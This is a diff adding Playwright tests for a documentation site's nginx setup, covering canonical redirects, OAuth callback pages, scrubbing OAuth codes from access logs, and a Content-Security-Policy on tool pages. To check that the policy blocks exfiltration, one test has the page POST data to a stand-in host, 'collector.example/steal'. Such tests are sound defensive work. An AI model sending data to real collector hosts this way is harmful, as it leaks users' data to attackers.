@@ -3,6 +3,7 @@ import { expect, test } from './fixtures';
 import { startNginx, type RunningNginx } from './nginx';
 import { outDir } from '../../scripts/builtFiles';
 import { scriptsOfPage } from '../../plugins/paintFirst';
+import { providerIds, upstreamOrigins } from '../../providers/table';
 
 /**
  * The repository's nginx configuration (deploy/nginx/) serving the built site, checked through HTTP and in
@@ -50,6 +51,86 @@ test('other spellings of a page redirect to its canonical URL', async () => {
     expect(res.headers.get('location'), from).toBe(to);
   }
   for (const canonical of ['/', '/faq/error.html', '/guide/install/', '/zh/guide/', '/guide/drivers/Crypt.html']) expect((await get(canonical)).status, canonical).toBe(200);
+});
+
+test('the query survives every canonical redirect', async () => {
+  const cases: [string, string][] = [
+    ['/faq/error?x=1&y=%2F', '/faq/error.html?x=1&y=%2F'],
+    ['/Guide/Install/?code=c', '/guide/install/?code=c'],
+    ['/tool/OneDrive/Callback?code=C1&state=S1', '/tool/onedrive/callback.html?code=C1&state=S1'],
+    ['/tool/onedrive/callback/?code=C2', '/tool/onedrive/callback.html?code=C2'],
+  ];
+  for (const [from, to] of cases) {
+    const res = await get(from);
+    expect(res.status, from).toBe(301);
+    expect(res.headers.get('location'), from).toBe(to);
+  }
+});
+
+test("the callback pages answer AList's default redirect URIs (no .html) in place, with the tool pages' policy", async () => {
+  for (const provider of providerIds) {
+    for (const prefix of ['', '/zh']) {
+      const path = `${prefix}/tool/${provider}/callback?code=CODE-${provider}&state=STATE`;
+      const res = await get(path);
+      const page = await get(`${prefix}/tool/${provider}/callback.html`);
+      expect(res.status, path).toBe(200);
+      expect(await res.text(), path).toBe(await page.text());
+      expect(res.headers.get('content-security-policy'), path).toBe(page.headers.get('content-security-policy'));
+      expect(res.headers.get('cache-control'), path).toBe('no-cache');
+    }
+  }
+});
+
+test('the access log keeps no query string and no Referer query: OAuth codes are never written down', async () => {
+  await get('/tool/onedrive/callback?code=SECRET-CODE-1&state=SECRET-STATE');
+  await get('/TOOL/onedrive/callback?code=SECRET-CODE-2');
+  await get('/tool/nope?code=SECRET-CODE-3');
+  await get('/static/js/missing.js', { referer: `${nginx.origin}/tool/google/callback?code=SECRET-CODE-4` });
+  const log = nginx.accessLog();
+  // The requests are in the log (so the check below reads a real log), their codes are not.
+  expect(log).toContain('"GET /tool/onedrive/callback HTTP/1.1" 200');
+  expect(log).toContain('"GET /tool/nope HTTP/1.1" 404');
+  expect(log).toContain(`"${nginx.origin}/tool/google/callback"`);
+  expect(log).not.toMatch(/SECRET|code=|state=/);
+});
+
+test("tool pages may connect only to the site, the token service and the provider table's hosts", async () => {
+  const policy = (await get('/tool/google/callback.html')).headers.get('content-security-policy') ?? '';
+  const connect = /connect-src ([^;]+)/.exec(policy)?.[1].split(' ') ?? [];
+  // This build names no token service (TOKEN_SERVICE_URL unset).
+  expect(connect.sort()).toEqual(["'self'", ...upstreamOrigins].sort());
+  for (const path of ['/tool/', '/zh/tool/115/token.html', '/tool/onedrive/request.html']) {
+    expect((await get(path)).headers.get('content-security-policy'), path).toBe(policy);
+  }
+  // Other pages keep the general policy.
+  expect((await get('/guide/install/docker.html')).headers.get('content-security-policy')).toContain('connect-src \'self\' https: http:');
+});
+
+test('on a tool page the browser refuses a connection to a host outside the table and allows a provider', async ({ page }) => {
+  const v = await visit(page, '/tool/dropbox/request.html');
+  const outcome = await page.evaluate(async () => {
+    const attempt = (url: string) => fetch(url, { method: 'POST', body: 'x' }).then(() => 'sent', () => 'refused');
+    return { outside: await attempt('https://collector.example/steal'), provider: await attempt('https://api.dropboxapi.com/oauth2/token') };
+  });
+  expect(outcome.outside).toBe('refused');
+  expect((await v.violations()).join()).toContain('connect-src https://collector.example/steal');
+  // The provider host is allowed by the policy (the stand-in answers it): no violation names it.
+  expect((await v.violations()).join()).not.toContain('dropboxapi');
+  expect(outcome.provider).toBe('sent');
+});
+
+test('moving between a tool page and another page loads the new page from the server (its own policy and head)', async ({ page }) => {
+  await visit(page, '/guide/drivers/dropbox.html');
+  await page.evaluate(() => ((window as unknown as { sameDocument: boolean }).sameDocument = true));
+  const documents: string[] = [];
+  page.on('request', (r) => {
+    if (r.isNavigationRequest()) documents.push(new URL(r.url()).pathname);
+  });
+  await page.locator('.rp-doc a[href^="/tool/dropbox/"]').first().click();
+  await page.waitForURL(/\/tool\/dropbox\//);
+  await expect(page.locator('form[data-provider="dropbox"], .tool-app').first()).toBeVisible();
+  expect(await page.evaluate(() => (window as unknown as { sameDocument?: boolean }).sameDocument)).toBeUndefined();
+  expect(documents.some((d) => d.startsWith('/tool/dropbox/'))).toBe(true);
 });
 
 test('hashed assets are cached for a year; pages and the service worker are revalidated', async () => {
